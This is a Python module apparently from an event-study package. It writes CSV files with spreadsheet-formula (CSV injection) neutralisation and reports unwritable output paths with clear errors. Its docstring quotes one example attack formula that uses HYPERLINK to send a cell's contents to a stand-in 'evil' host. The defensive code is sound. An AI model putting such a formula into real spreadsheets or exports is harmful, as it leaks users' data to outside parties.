"""Table files and output folders: CSV safe to open in a spreadsheet, errors naming the path.

Every CSV file the package writes (the briefing's ``tables/*.csv``, the backtest's
tables, ``eventstudy news --out``) goes through :func:`write_csv`, and every output
folder is made with :func:`output_dir`.

Spreadsheet formulas (CSV injection)
------------------------------------
A news title or publisher is text from the internet. A cell that starts with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return is run as a formula by Excel,
LibreOffice and Google Sheets (``=HYPERLINK("http://evil/?"&A1, "click")``). Following
the OWASP rule, :func:`neutralize_formulas` prefixes such *text* cells with a single
quote ``'``, which spreadsheets show as text. Numbers are never changed: a negative
CAR stays the number ``-0.0123`` (float columns are not touched), and neither is a
text cell that is a plain number (``-0.5``, ``+3``, ``-2.1%``), which no spreadsheet
runs as a formula. Column names and a text index are treated like cells. Line ends
inside text cells are written as ``\\n`` (a bare carriage return, which the ``csv``
module leaves unquoted, would split the row in a spreadsheet). Parquet files
keep the values as they are (typed data, not opened by spreadsheets).

Output paths
------------
A file where a folder is needed (``--out`` names an existing file), a folder without
write permission, a read-only disk: :class:`~eventstudy.exceptions.OutputPathError`
names the path and what to do (the CLI exits 2, bad input).

Examples
--------
>>> import pandas as pd
>>> frame = pd.DataFrame({"title": ['=HYPERLINK("x")', "白酒", "-0.5"], "car": [-0.01, 0.02, 0.0]})
>>> neutralize_formulas(frame).values.tolist()
[['\\'=HYPERLINK("x")', -0.01], ['白酒', 0.02], ['-0.5', 0.0]]
"""

from __future__ import annotations

import errno
import os
import re
from pathlib import Path
from typing import Final

import pandas as pd

from eventstudy.exceptions import OutputPathError

__all__ = [
    "FORMULA_PREFIXES",
    "neutralize_formulas",
    "output_dir",
    "output_file",
    "output_path_error",
    "write_csv",
]

#: First characters that make a spreadsheet run a cell as a formula (OWASP CSV injection).
FORMULA_PREFIXES: Final = ("=", "+", "-", "@", "\t", "\r")
#: A text cell that is a plain number (optionally a percentage) is left as it is.
_PLAIN_NUMBER: Final = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?%?")


def _neutral(value: object) -> object:
    if not isinstance(value, str):
        return value
    if value.startswith(FORMULA_PREFIXES) and not _PLAIN_NUMBER.fullmatch(value):
        value = "'" + value
    if "\r" in value:  # a bare CR is not quoted by the csv module: it would split the row
        value = value.replace("\r\n", "\n").replace("\r", "\n")
    return value


def _neutral_values(values: pd.Series) -> pd.Series | None:
    """``values`` with risky text cells prefixed, or ``None`` when nothing changes."""
    if isinstance(values.dtype, pd.CategoricalDtype):
        cats = values.cat.categories
        if all(_neutral(v) is v for v in cats):
            return None
        return values.cat.rename_categories([_neutral(v) for v in cats])
    if not (
        pd.api.types.is_object_dtype(values.dtype) or pd.api.types.is_string_dtype(values.dtype)
    ):
        return None  # numbers, dates, booleans: never changed
    if all(_neutral(v) is v for v in values):  # unchanged values come back as themselves
        return None
    return values.map(_neutral).astype(values.dtype)


def neutralize_formulas(frame: pd.DataFrame) -> pd.DataFrame:
    """``frame`` with text cells that a spreadsheet would run as a formula prefixed by ``'``.

    Text cells (and column names, and a text index) starting with one of
    :data:`FORMULA_PREFIXES` get a leading ``'`` unless they are a plain number
    (``-0.5``, ``+3``, ``-2.1%``). Numeric, date and boolean columns are never
    changed. ``frame`` itself is not modified.

    Parameters
    ----------
    frame
        The table to export.

    Returns
    -------
    pandas.DataFrame
        A copy with the risky text cells neutralised (``frame`` itself when none is).

    Examples
    --------
    >>> import pandas as pd
    >>> t = pd.DataFrame({"publisher": ["@SUM(A1)", "+86 新华社", "新华社"], "n": [-1, 2, 3]})
    >>> neutralize_formulas(t).values.tolist()
    [["'@SUM(A1)", -1], ["'+86 新华社", 2], ['新华社', 3]]
    """
    changed = {i: _neutral_values(frame.iloc[:, i]) for i in range(frame.shape[1])}
    columns = frame.columns.map(_neutral) if len(frame.columns) else frame.columns
    index = None
    if not isinstance(frame.index, pd.MultiIndex):
        fixed_index = _neutral_values(pd.Series(frame.index, dtype=frame.index.dtype))
        index = None if fixed_index is None else pd.Index(fixed_index, name=frame.index.name)
    if all(v is None for v in changed.values()) and columns.equals(frame.columns) and index is None:
        return frame
    out = frame.copy()
    for i, values in changed.items():
        if values is not None:  # by position: column names may repeat
            out.isetitem(i, values.array)
    out.columns = columns
    if index is not None:
        out.index = index
    return out


def output_path_error(path: str | os.PathLike[str], err: OSError, *, what: str) -> OutputPathError:
    """An :class:`~eventstudy.exceptions.OutputPathError` naming ``path`` and what to do.

    Parameters
    ----------
    path
        The path that could not be written.
    err
        The error of the operating system.
    what
        What ``path`` was meant to be (``"output folder"``, ``"CSV file"``).

    Examples
    --------
    >>> err = output_path_error("out", FileExistsError(17, "File exists"), what="output folder")
    >>> print(str(err).replace("; ", ";\\n"))
    cannot write the output folder 'out': it is a file, not a folder;
    give a folder name that is free (e.g. --out out_dir) or remove the file
    """
    text = os.fspath(path)
    if isinstance(err, FileExistsError | NotADirectoryError) or err.errno == errno.ENOTDIR:
        reason = "it (or a folder above it) is a file, not a folder"
        if isinstance(err, FileExistsError):
            reason = "it is a file, not a folder"
        advice = "give a folder name that is free (e.g. --out out_dir) or remove the file"
    elif isinstance(err, IsADirectoryError):
        reason = "it is a folder, not a file"
        advice = "give a file name (e.g. --out tags.csv)"
    elif isinstance(err, FileNotFoundError):
        reason = "its folder does not exist"
        advice = "create the folder first or give another path"
    elif isinstance(err, PermissionError) or err.errno == errno.EROFS:
        reason = (
            "permission denied" if isinstance(err, PermissionError) else "read-only file system"
        )
        advice = "choose a place you can write to (--out) or change its permissions"
    else:
        reason = err.strerror or str(err)
        advice = "choose another place (--out)"
    return OutputPathError(f"cannot write the {what} {text!r}: {reason}; {advice}")


def output_dir(path: str | os.PathLike[str]) -> Path:
    """Create the output folder ``path`` (and its parents) if needed; return it.

    Raises
    ------
    OutputPathError
        If ``path`` (or a folder above it) is a file, or cannot be created or written.

    Examples
    --------
    >>> import tempfile
    >>> folder = output_dir(Path(tempfile.mkdtemp()) / "briefing")
    >>> folder.is_dir()
    True
    """
    folder = Path(path).expanduser()
    try:
        folder.mkdir(parents=True, exist_ok=True)
    except OSError as err:
        raise output_path_error(folder, err, what="output folder") from None
    if not os.access(folder, os.W_OK | os.X_OK):
        raise output_path_error(
            folder, PermissionError(errno.EACCES, "Permission denied"), what="output folder"
        )
    return folder


def output_file(path: str | os.PathLike[str], *, what: str = "output file") -> Path:
    """Check that the file ``path`` can be written: its folder exists, it is not a folder.

    Raises
    ------
    OutputPathError
        If the folder above ``path`` is missing or is a file, or ``path`` is a folder.

    Examples
    --------
    >>> output_file("no_such_folder/tags.csv")  # doctest: +ELLIPSIS
    Traceback (most recent call last):
    ...
    eventstudy.exceptions.OutputPathError: cannot write the output file ...: its folder does not ...
    """
    target = Path(path).expanduser()
    parent = target.parent
    err: OSError | None = None
    if target.is_dir():
        err = IsADirectoryError(errno.EISDIR, "Is a directory")
    elif parent.exists() and not parent.is_dir():
        err = NotADirectoryError(errno.ENOTDIR, "Not a directory")
    elif not parent.exists():
        err = FileNotFoundError(errno.ENOENT, "No such file or directory")
    if err is not None:
        raise output_path_error(target, err, what=what)
    return target


def write_csv(frame: pd.DataFrame, path: str | os.PathLike[str], *, index: bool = False) -> Path:
    """Write ``frame`` to ``path`` as UTF-8 CSV with spreadsheet formulas neutralised.

    The one CSV writer of the package (see the module docstring: text cells
    starting with ``=``, ``+``, ``-``, ``@``, tab or CR get a leading ``'``;
    numbers are never changed).

    Parameters
    ----------
    frame
        The table.
    path
        The file to write (replaced if it exists).
    index
        Write the index as the first column.

    Returns
    -------
    Path
        ``path``.

    Raises
    ------
    OutputPathError
        If the file cannot be written (a folder of that name, no permission, ...).

    Examples
    --------
    >>> import pandas as pd, tempfile
    >>> p = write_csv(pd.DataFrame({"title": ["=1+1"], "car": [-0.5]}),
    ...               Path(tempfile.mkdtemp()) / "t.csv")
    >>> p.read_text(encoding="utf-8").splitlines()
    ['title,car', "'=1+1,-0.5"]
    """
    target = output_file(path, what="CSV file")
    try:
        neutralize_formulas(frame).to_csv(target, index=index, encoding="utf-8")
    except OSError as err:
        raise output_path_error(target, err, what="CSV file") from None
    return target
